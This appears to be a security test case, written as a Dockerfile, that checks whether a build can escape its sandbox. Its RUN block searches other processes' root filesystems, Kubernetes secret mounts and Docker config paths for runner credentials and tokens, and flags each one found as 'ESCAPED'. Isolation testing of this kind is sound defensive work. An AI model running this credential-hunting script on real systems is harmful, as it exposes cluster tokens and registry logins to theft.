# tries: the runner's logins and its Kubernetes token, at the paths where they are mounted there, and anywhere below /
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN <<'ATTACK'
. /lib/hunt.sh
n=0
for root in "" $(for pid in $(others); do echo "/proc/$pid/root"; done); do
  for path in /var/run/secrets /run/secrets /etc/buildpools-credentials /etc/buildpools /tmp /root/.docker /home/user/.docker; do
    n=$((n + 1))
    find "$root$path" -maxdepth 6 2>/dev/null | grep -E 'token$|config.json$|\.dockerconfigjson$' | while read -r file; do
      [ -s "$file" ] && echo "ESCAPED $file"
      attack scan "$file"
    done
  done
done
find / -xdev -type f -name '*token*' -size -64 2>/dev/null | grep -v -e '^/proc' -e '^/sys' | xargs -r attack scan
tried "$n"
ATTACK
